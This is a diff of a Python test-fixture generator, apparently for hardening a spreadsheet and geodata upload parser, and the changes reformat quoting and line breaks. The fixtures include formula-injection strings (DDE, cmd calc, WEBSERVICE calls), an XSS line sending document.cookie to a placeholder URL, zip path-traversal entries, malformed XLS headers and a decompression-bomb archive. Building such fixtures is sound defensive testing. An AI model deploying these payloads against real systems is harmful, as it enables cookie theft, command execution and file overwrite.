@@ -25,13 +25,13 @@ FORMULAS = (
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("@URL@","here")',
     '=WEBSERVICE("@URL@/")',
-    "=IMPORTXML(CONCAT(\"@URL@\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("@URL@",A1),"//a")',
     "+1+cmd|'/C calc'!A0",
     "-2+3+cmd|'/C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
-    "=DDE(\"cmd\";\"/C calc\";\"a\")",
+    '=DDE("cmd";"/C calc";"a")',
 )
 SCRIPTS = (
     "<script>fetch('@URL@/'+document.cookie)</script>",
@@ -102,7 +102,7 @@ for name, target in (
     sheet = 'Target="worksheets/sheet1.xml"'
     GANG.add(name, changed(LINKS, lambda told, n=target: told.replace(sheet, n)))
 CONTENT = "xl/workbook.xml"
-NAMED = '<definedNames><definedName name="a">\'[1]Sheet1\'!$A$1</definedName></definedNames>'
+NAMED = "<definedNames><definedName name=\"a\">'[1]Sheet1'!$A$1</definedName></definedNames>"
 GANG.add(
     "linked to another.xlsx",
     changed(CONTENT, lambda told: told.replace("</sheets>", f"</sheets>{NAMED}")),
@@ -151,7 +151,11 @@ def _(path: Path, trap: Trap) -> None:
 
 
 for name, at, value in (
-    ("sizes of nowhere.xls", b"\x00\x02\x0e\x00", b"\x00\x02\x0e\x00\0\0\0\0\xff\xff\xff\xff"),
+    (
+        "sizes of nowhere.xls",
+        b"\x00\x02\x0e\x00",
+        b"\x00\x02\x0e\x00\0\0\0\0\xff\xff\xff\xff",
+    ),
     ("words without end.xls", b"\xfc\x00", b"\xfc\x00\xff\xff\xff\xff\xff\xff"),
 ):
 
@@ -205,7 +209,9 @@ def packed(path: Path, *items: tuple[str | zipfile.ZipInfo, bytes]) -> None:
             archive.writestr(name, data)
 
 
-EVIL = json.dumps({"type": "Feature", "properties": {"a": 1}, "geometry": POINT}).encode()
+EVIL = json.dumps(
+    {"type": "Feature", "properties": {"a": 1}, "geometry": POINT}
+).encode()
 for name, inside in (
     ("climbs.zip", "../../../../evil.geojson"),
     ("climbs by backslash.zip", "..\\..\\..\\evil.geojson"),
@@ -289,11 +295,16 @@ def _(path: Path, trap: Trap) -> None:
     folder = path.with_name("odd")
     folder.mkdir()
     write_shapefile(folder / "a.shp")
-    items = [(f"</script>\x1b'\"{part.suffix}", part.read_bytes()) for part in folder.iterdir()]
+    items = [
+        (f"</script>\x1b'\"{part.suffix}", part.read_bytes())
+        for part in folder.iterdir()
+    ]
     packed(path, *items)
     for part in folder.iterdir():
         part.unlink()
     folder.rmdir()
 
 
-ARCHIVES.add("swollen.kmz", lambda path, trap: packed(path, ("doc.kml", b" " * (100 << 20))))
+ARCHIVES.add(
+    "swollen.kmz", lambda path, trap: packed(path, ("doc.kml", b" " * (100 << 20)))
+)
